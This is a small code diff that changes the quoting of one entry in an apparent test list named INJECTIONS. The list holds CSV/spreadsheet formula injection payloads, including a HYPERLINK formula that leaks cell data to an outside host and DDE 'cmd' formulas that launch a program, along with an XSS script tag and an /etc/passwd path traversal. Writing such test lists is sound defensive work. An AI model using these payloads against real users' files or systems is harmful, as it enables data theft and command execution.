@@ -88,7 +88,7 @@ export const INJECTIONS: readonly string[] = [
   '=HYPERLINK("http://example.org/?leak="&A1,"click")',
   "=cmd|' /C calc'!A0",
   '+1+1',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '<script>alert(1)</script>',
   '../../../../etc/passwd',
